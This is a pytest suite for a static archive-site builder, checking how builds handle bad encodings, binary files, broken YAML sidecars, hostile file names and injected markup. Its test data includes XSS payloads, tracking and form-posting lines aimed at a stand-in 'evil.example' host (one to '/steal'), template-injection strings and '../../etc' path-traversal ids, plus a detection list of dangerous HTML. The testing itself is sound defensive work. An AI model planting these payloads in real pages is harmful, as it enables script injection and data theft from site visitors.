"""Hostile input: every kind of bad capture has a defined, asserted outcome.

Each test writes its inputs into a temporary folder beside one good capture,
runs a whole build through the CLI, and asserts:
  * the exit code (0 kept / 0 skipped with a warning / 1 skipped with an
    error / 2 build stopped) and the located message on stderr;
  * never a traceback;
  * the good capture's record is exactly what it is when built alone;
  * no document text is emitted as live markup, and no page loads anything
    from another host.
"""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest

from archive_builder.cli import main

PROJECT = Path(__file__).resolve().parent.parent

GOOD = (
    "Statement of the Press Office on the events of 20 January 1990\n"
    "\n"
    "The Press Office recalls the events in the city on 20 January 1990.\n"
    "Dozens of people were killed and hundreds injured, according to the office.\n"
)


def write(folder: Path, files: dict[str, str | bytes]) -> None:
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))


def run_build(capsys, source: Path, out: Path, *extra: str) -> tuple[int, str]:
    capsys.readouterr()
    code = main(["build", "--source", str(source), "--out", str(out), "--no-search", "--quiet", *extra])
    err = capsys.readouterr().err
    assert "Traceback" not in err
    return code, err


def records(out: Path) -> dict[str, dict]:
    data = json.loads((out / "data" / "records.json").read_text(encoding="utf-8"))
    return {r["source_file"]: r for r in data["records"]}


def report(out: Path) -> dict:
    return json.loads((out / "data" / "build-report.json").read_text(encoding="utf-8"))


def site_hashes(out: Path) -> dict[str, str]:
    return {p.relative_to(out).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(out.rglob("*")) if p.is_file()}


def _comparable(record: dict) -> dict:
    """A record's own content: what other documents must never change."""
    return {k: v for k, v in record.items() if k not in ("claims", "warnings")}


@pytest.fixture(autouse=True)
def _isolated(tmp_path, monkeypatch):
    """Run in an empty folder: no ./archive.yaml, no project editorial/ files;
    and any attempt to open a network connection fails the test."""
    import socket

    monkeypatch.chdir(tmp_path)
    attempts: list[object] = []

    def refuse(self, address, *args, **kwargs):
        attempts.append(address)
        raise OSError("network access during a build")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    yield
    assert attempts == [], f"the build tried to reach {attempts}"


@pytest.fixture(scope="module")
def good_alone(tmp_path_factory) -> dict:
    folder = tmp_path_factory.mktemp("good")
    write(folder / "src", {"good.txt": GOOD})
    with pytest.MonkeyPatch.context() as mp:
        mp.chdir(folder)
        code = main(["build", "--source", str(folder / "src"), "--out", str(folder / "site"), "--no-search", "--quiet"])
    assert code == 0
    return _comparable(records(folder / "site")["good.txt"])


@pytest.fixture
def archive(tmp_path, capsys, good_alone):
    """Build GOOD plus the given hostile files; check the invariants every outcome shares."""
    source, out = tmp_path / "src", tmp_path / "site"

    def build(files: dict[str, str | bytes], *extra: str) -> tuple[int, str]:
        write(source, {"good.txt": GOOD, **files})
        code, err = run_build(capsys, source, out, *extra)
        if code in (0, 1):
            assert _comparable(records(out)["good.txt"]) == good_alone, "a good record was altered"
            assert_no_live_markup(out)
        return code, err

    build.source, build.out = source, out  # type: ignore[attr-defined]
    return build


# --- the site never carries document text as live markup --------------------

RESOURCE_ATTRS = {"src", "srcset", "data", "poster", "background", "action", "formaction", "ping", "manifest"}
FORBIDDEN_ELEMENTS = {"iframe", "object", "embed", "frame", "frameset", "applet", "base"}


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._in_script = False
        self._script_type = ""

    def handle_starttag(self, tag, attrs):
        a = {k.lower(): (v or "") for k, v in attrs}
        if tag in FORBIDDEN_ELEMENTS:
            self.found.append(f"<{tag}>")
        if tag == "script":
            self._in_script = True
            self._script_type = a.get("type", "").lower()
            if "src" in a and _external(a["src"]):
                self.found.append(f"<script src={a['src']}>")
        if tag == "meta" and a.get("http-equiv", "").lower() == "refresh":
            self.found.append("<meta refresh>")
        if tag == "link" and _external(a.get("href", "")):
            self.found.append(f"<link href={a['href']}>")
        for name, value in a.items():
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=>")
            if name in RESOURCE_ATTRS | {"href", "xlink:href"} and value.strip().lower().replace("\t", "").startswith(("javascript:", "vbscript:", "data:text/html")):
                self.found.append(f"<{tag} {name}={value}>")
            if name in RESOURCE_ATTRS and any(_external(part.strip().split(" ")[0]) for part in value.split(",")):
                self.found.append(f"<{tag} {name}={value}> loads from another host")
            if name == "style" and "url(" in value.lower():
                self.found.append(f"<{tag} style=url()>")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if not self._in_script:
            return
        if self._script_type in ("application/ld+json", "application/json"):
            # data, not code: it must parse, and carry no "<" that could close the element early
            try:
                json.loads(data)
            except ValueError:
                self.found.append("<script type=json> that is not JSON")
            if "<" in data:
                self.found.append("unescaped '<' inside a JSON <script>")
        elif "alert(" in data or "evil" in data:
            self.found.append("document text inside <script>")


def _external(url: str) -> bool:
    url = url.strip().lower()
    return url.startswith(("http://", "https://", "//", "ftp://"))


def assert_no_live_markup(out: Path) -> None:
    for page in sorted(out.rglob("*.html")):
        inspector = _Inspector()
        inspector.feed(page.read_text(encoding="utf-8"))
        inspector.close()
        assert not inspector.found, f"{page.relative_to(out)}: {inspector.found}"


def page_text(out: Path, record: dict) -> str:
    """The visible text of a document's page."""
    html = (out / "documents" / record["id"] / "index.html").read_text(encoding="utf-8")

    class Text(HTMLParser):
        def __init__(self):
            super().__init__(convert_charrefs=True)
            self.parts: list[str] = []

        def handle_data(self, data):
            self.parts.append(data)

    t = Text()
    t.feed(html)
    return "".join(t.parts)


# --- encodings ----------------------------------------------------------------


def test_latin1_capture_is_kept_with_a_located_warning(archive):
    raw = "Déclaration du ministère\n\nLe ministère a publié une déclaration.\nÀ Bakou, 20 janvier 1990.\n".encode("cp1252")
    code, err = archive({"latin.txt": raw})
    assert code == 0
    assert "latin.txt:1: warning: not valid UTF-8" in err and "Windows-1252" in err
    rec = records(archive.out)["latin.txt"]
    assert "ministère" in rec["body"] and "À Bakou" in rec["body"]
    assert (archive.out / "originals" / f"{rec['id']}.txt").read_bytes() == raw   # the bytes, unaltered
    assert rec["sha256"] == hashlib.sha256(raw).hexdigest()
    assert any(p["line"] == 1 and "UTF-8" in p["message"] for f in report(archive.out)["files"]
               if f["file"] == "latin.txt" for p in f["problems"])


def test_invalid_utf8_line_number_points_at_the_bad_byte(archive):
    raw = b"Title\n\nfine line\nanother fine line\nbad \xff\xfe byte here\n"
    code, err = archive({"bad.txt": raw})
    assert code == 0
    assert "bad.txt:5: warning: not valid UTF-8 (byte 0xff" in err


def test_bom_and_crlf_are_read_without_warning(archive):
    raw = "\ufeffStatement with BOM\r\n\r\nThe body of the statement.\r\nSecond line.\r\n".encode("utf-8")
    code, err = archive({"bom.txt": raw})
    assert code == 0
    assert "bom.txt" not in err
    rec = records(archive.out)["bom.txt"]
    assert "\r" not in rec["body"] and "\ufeff" not in rec["body"]
    assert "The body of the statement." in rec["body"]
    assert rec["layout"]["encoding"] == "utf-8-sig" and rec["layout"]["newline"] == "\r\n"
    assert (archive.out / "originals" / f"{rec['id']}.txt").read_bytes() == raw


@pytest.mark.parametrize("content", [b"", b"   \n\t\r\n  \n", "\ufeff \u00a0\n".encode("utf-8")])
def test_empty_and_whitespace_only_files_are_skipped_with_a_warning(archive, content):
    code, err = archive({"empty.txt": content})
    assert code == 0
    assert "empty.txt: warning: empty capture" in err and "nothing to publish" in err
    assert "empty.txt" not in records(archive.out)
    assert report(archive.out)["skipped"] == ["empty.txt"]


def test_file_with_nul_bytes_is_skipped_with_an_error(archive):
    code, err = archive({"image.txt": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4})
    assert code == 1
    assert "image.txt:3: error: binary file" in err   # the NUL follows two line breaks
    assert "image.txt" not in records(archive.out)
    assert report(archive.out)["errors"] == 1


def test_nul_byte_deep_inside_a_text_file_is_found(archive):
    code, err = archive({"late.txt": b"Title\n\n" + b"text line\n" * 5000 + b"\x00 junk\n"})
    assert code == 1
    assert "late.txt:5003: error: binary file" in err


def test_binary_without_nul_bytes_is_skipped(archive):
    junk = bytes((i * 37 + 11) % 256 for i in range(5000)).replace(b"\x00", b"\x01")
    code, err = archive({"junk.txt": junk})
    assert code == 1
    assert "junk.txt: error: binary file" in err and "junk.txt" not in records(archive.out)


def test_a_stray_control_character_is_kept_with_a_warning(archive):
    code, err = archive({"ctl.txt": "Title\n\nText with a bell \x07 in it.\n"})
    assert code == 0
    assert "ctl.txt:3: warning: 1 control character" in err
    assert "\x07" in records(archive.out)["ctl.txt"]["body"]


# --- size -----------------------------------------------------------------------


MULTI_MEGABYTE_SECONDS = 90


def test_multi_megabyte_single_paragraph_builds_quickly(tmp_path, good_alone):
    """3 MB in one paragraph, one sentence: about 600 ordinary statements' worth of
    text.  Anything quadratic in a stage takes many minutes; the build runs in a
    subprocess so a slow stage is named (from the progress lines) instead of hanging."""
    words = "The delegation stated that 147 people were killed in Baku on 20 January 1990 and many more injured "
    paragraph = (words * (3_000_000 // len(words))).strip()
    write(tmp_path / "src", {"good.txt": GOOD, "huge.txt": "A very long statement\n\n" + paragraph + "\n"})
    out = tmp_path / "site"
    cmd = [sys.executable, "-m", "archive_builder", "build", "--source", str(tmp_path / "src"), "--out", str(out),
           "--no-search", "--no-cache", "--report-timings"]
    env = {**os.environ, "PYTHONPATH": str(PROJECT)}
    with subprocess.Popen(cmd, cwd=tmp_path, env=env, stderr=subprocess.PIPE, text=True) as proc:
        try:
            _, err = proc.communicate(timeout=MULTI_MEGABYTE_SECONDS)
        except subprocess.TimeoutExpired:
            proc.kill()
            _, err = proc.communicate()
            stages = [line.strip().rstrip("…") for line in err.splitlines() if line.strip().endswith("…")]
            pytest.fail(f"not finished in {MULTI_MEGABYTE_SECONDS} s; still in stage '{stages[-1] if stages else '?'}'")
    assert proc.returncode == 0, err
    assert "Traceback" not in err
    assert records(out)["huge.txt"]["body"].endswith(paragraph)
    assert _comparable(records(out)["good.txt"]) == good_alone


# --- markup and templates in the text -------------------------------------------

INJECTION = """<script>alert('evil')</script> statement on injection
<iframe src="https://evil.example/frame"></iframe>
<a href="javascript:alert('evil')">click</a> and <img src=x onerror="alert('evil')">
<img src="https://evil.example/track.png"> <svg onload=alert('evil')></svg>
[a link](javascript:alert('evil')) and ![tracker](https://evil.example/pixel.gif)
<div style="background:url(https://evil.example/bg.png)">styled</div>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<object data="https://evil.example/x.swf"></object><base href="https://evil.example/">
<form action="https://evil.example/steal"><input name=x></form>
"""


@pytest.mark.parametrize("name", ["inject.txt", "inject.md"])
def test_injected_markup_is_only_ever_escaped_text(archive, name):
    code, err = archive({name: "Statement on markup\n\nThe Office published the following text.\n\n" + INJECTION})
    assert code in (0, 1), err
    rec = records(archive.out)[name]
    kept = rec["body"] + "".join(r["text"] for r in rec["removed"])
    assert "<script>alert('evil')</script>" in kept              # kept in the record, verbatim
    text = page_text(archive.out, rec)
    assert "alert('evil')" in text                           # shown as text on the page
    # assert_no_live_markup ran in the fixture: no script, iframe, handler, remote load


def test_markup_in_a_sidecar_title_never_closes_an_element(archive):
    title = "</script><script>alert('evil')</script><img src=x onerror=alert('evil')> \"quoted\" & more"
    code, err = archive({"t.txt": "A title\n\nText.\n", "t.yaml": f"title: {json.dumps(title)}\n"})
    assert code == 0, err
    rec = records(archive.out)["t.txt"]
    assert rec["title"]["value"] == title
    assert title in page_text(archive.out, rec)


def test_template_syntax_appears_literally(archive):
    code, err = archive({"tpl.txt": "Braces {{ 7*191 }} statement\n\nText {% for x in range(3) %}{{ x }}{% endfor %} and {# note #}.\n"})
    assert code == 0
    rec = records(archive.out)["tpl.txt"]
    text = page_text(archive.out, rec)
    assert "{% for x in range(3) %}{{ x }}{% endfor %}" in text
    assert "1337" not in text and "012" not in text


# --- numbers, dates, scripts -----------------------------------------------------


def test_impossible_dates_are_never_published_as_dates(archive):
    from edtf import parse_edtf

    code, err = archive({"dates.txt": "Statement of February 31, 1990\n\nIssued on February 31, 1990. "
                                      "The events of 31/02/1990 and 1990-02-30 and 35 January 1990 and 20 Janvember 1990.\n"})
    assert code == 0
    rec = records(archive.out)["dates.txt"]
    edtf = rec["date"]["edtf"]
    assert edtf is None or (parse_edtf(edtf) and "02-31" not in edtf and "02-30" not in edtf)
    for claim in rec["claims"]:
        for d in claim["dates"]:
            assert "-02-31" not in d["edtf"] and "-02-30" not in d["edtf"]


def test_absurd_numbers_are_kept_as_text(archive):
    absurd = ("Statement on figures\n\n"
              "The office said 999999999999999999999999999999999999 people were killed. "
              "Another source says -5 were injured, and 1e308 were displaced, and 1" + "0" * 5000 + " troops.\n")
    code, err = archive({"numbers.txt": absurd})
    assert code == 0
    assert "999999999999999999999999999999999999 people were killed" in records(archive.out)["numbers.txt"]["body"]


def test_right_to_left_text_and_emoji_survive_exactly(archive):
    text = ("بيان وزارة الخارجية 🇦🇿🇦🇲\n\n"
            "نص البيان باللغة العربية. הודעה בעברית. 👨‍👩‍👧 emoji with ZWJ, and an override \u202eevil\u202c mark.\n")
    code, err = archive({"rtl.txt": text})
    assert code == 0
    rec = records(archive.out)["rtl.txt"]
    assert rec["body"] == text.split("\n\n", 1)[1].rstrip("\n") or text.rstrip("\n").endswith(rec["body"])
    assert "👨‍👩‍👧" in page_text(archive.out, rec)


# --- the archivist's own input stops the build -----------------------------------


def _previous_site(archive) -> dict[str, str]:
    code, _ = archive({})
    assert code == 0
    return site_hashes(archive.out)


def _assert_untouched(archive, before: dict[str, str]) -> None:
    assert site_hashes(archive.out) == before
    assert not list(archive.out.parent.glob(f".{archive.out.name}-staging-*"))


@pytest.mark.parametrize("sidecar, line, message", [
    ("title: [unclosed\nauthor: x\n", 2, "not valid YAML"),
    ("title: ok\n  author: nested badly\n", 2, "not valid YAML"),
    ("title: ok\ndate: 1990-02-31\n", 2, "not valid YAML: day is out of range"),
    ("- a list\n- not a mapping\n", 1, "must be a mapping"),
    ("title: ok\ndate: February 31 1990\n", 2, "not EDTF"),
    ("titel: A better title\n", 1, "unknown field 'titel' (did you mean 'title'?)"),
    ("title: ok\nslug: ../../etc\n", 2, "unknown field 'slug'"),
    ("id: ../../etc\n", 1, "'id' must be"),
    ("id: /abs\n", 1, "'id' must be"),
    ("id: a/b\n", 1, "'id' must be"),
    ("id: UPPER\n", 1, "'id' must be"),
    ("title: ''\n", 1, "must be a non-empty string"),
    ("author: {name: X, rank: general}\n", 1, "unknown key 'rank'"),
])
def test_bad_sidecar_stops_the_build_and_leaves_the_site(archive, sidecar, line, message):
    before = _previous_site(archive)
    code, err = archive({"doc.txt": "A document\n\nIts text.\n", "doc.yaml": sidecar})
    assert code == 2
    assert f"doc.yaml:{line}: error: " in err and message in err, err
    assert "previous site is unchanged" in err
    _assert_untouched(archive, before)
    assert not (archive.out.parent / "etc").exists()


def test_broken_front_matter_stops_the_build(archive):
    before = _previous_site(archive)
    code, err = archive({"fm.md": "---\ntitle: ok\nauthor: [broken\n---\n\nBody.\n"})
    assert code == 2
    assert "fm.md:" in err and "front matter is not valid YAML" in err
    _assert_untouched(archive, before)


def test_two_documents_claiming_one_id_stop_the_build_naming_both(archive):
    before = _previous_site(archive)
    code, err = archive({"a.txt": "First\n\nText.\n", "a.yaml": "id: same-id\n",
                         "b.txt": "Second\n\nText.\n", "b.yaml": "id: same-id\n"})
    assert code == 2
    assert "b.txt: error: id 'same-id' is already used by a.txt" in err
    _assert_untouched(archive, before)


def test_a_sidecar_id_may_not_take_another_documents_id(archive):
    code, err = archive({"other.txt": "Other\n\nText.\n", "other.yaml": "id: good\n"})
    assert code == 2
    assert "is already used by" in err and "good.txt" in err and "other.txt" in err


def test_a_good_sidecar_id_is_the_page_url(archive):
    code, err = archive({"doc.txt": "A document\n\nIts text.\n", "doc.yaml": "id: my-own-id\ntitle: Corrected title\n"})
    assert code == 0
    rec = records(archive.out)["doc.txt"]
    assert rec["id"] == "my-own-id" and rec["title"]["basis"] == "sidecar"
    assert (archive.out / "documents" / "my-own-id" / "index.html").is_file()


def test_orphan_sidecar_is_a_warning(archive):
    code, err = archive({"lonely.yaml": "title: nobody\n"})
    assert code == 0
    assert "lonely.yaml: warning: sidecar without a capture" in err


def test_link_out_of_the_source_folder_is_skipped(archive, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("Secret\n\nnot part of the archive\n")
    archive.source.mkdir(parents=True, exist_ok=True)
    os.symlink(secret, archive.source / "link.txt")
    code, err = archive({})
    assert code == 0
    assert "link.txt: warning: link to a file outside the source folder" in err
    assert "link.txt" not in records(archive.out)


def test_hostile_file_names_give_safe_ids(archive):
    name = "<script>alert('evil')<\\script> ../ & \"q\" صورة.txt".replace("/", "_").replace("\\", "_")
    code, err = archive({name: "A statement\n\nText.\n"})
    assert code == 0, err
    rec = records(archive.out)[name]
    assert rec["id"] and all(c.isalnum() or c == "-" for c in rec["id"])
    assert (archive.out / "documents" / rec["id"] / "index.html").is_file()


def test_file_names_that_make_the_same_id_stop_the_build_naming_both(archive):
    code, err = archive({"Report 1.txt": "One\n\nText.\n", "report-1.txt": "Two\n\nText.\n"})
    assert code == 2
    assert "id 'report-1' is already used by" in err and "Report 1.txt" in err and "report-1.txt" in err


# --- configuration -------------------------------------------------------------


@pytest.mark.parametrize("config, line, message", [
    ("title: My archive\nbase_ulr: /x/\n", 2, "unknown key 'base_ulr' (did you mean 'base_url'?)"),
    ("serch: false\n", 1, "unknown key 'serch' (did you mean 'search'?)"),
    ("search: 'no'\n", 1, "'search' must be a bool"),
    ("title: [broken\n", 1, "not valid YAML"),
])
def test_bad_config_is_a_usage_error(tmp_path, capsys, config, line, message):
    write(tmp_path / "src", {"good.txt": GOOD})
    (tmp_path / "archive.yaml").write_text(config)
    capsys.readouterr()
    code = main(["build", "--config", str(tmp_path / "archive.yaml"), "--source", str(tmp_path / "src"),
                 "--out", str(tmp_path / "site"), "--no-search"])
    err = capsys.readouterr().err
    assert code == 2
    assert f"archive.yaml:{line}: error: {message}" in err, err
    assert "Traceback" not in err and not (tmp_path / "site").exists()


def test_broken_editorial_file_is_a_usage_error(tmp_path, capsys):
    write(tmp_path / "src", {"good.txt": GOOD})
    write(tmp_path / "ed", {"authors.yaml": "a: b\nc: [\n"})
    (tmp_path / "archive.yaml").write_text(f"editorial: {tmp_path / 'ed'}\n")
    capsys.readouterr()
    code = main(["build", "--config", str(tmp_path / "archive.yaml"), "--source", str(tmp_path / "src"),
                 "--out", str(tmp_path / "site"), "--no-search"])
    err = capsys.readouterr().err
    assert code == 2 and "authors.yaml:" in err and "not valid YAML" in err
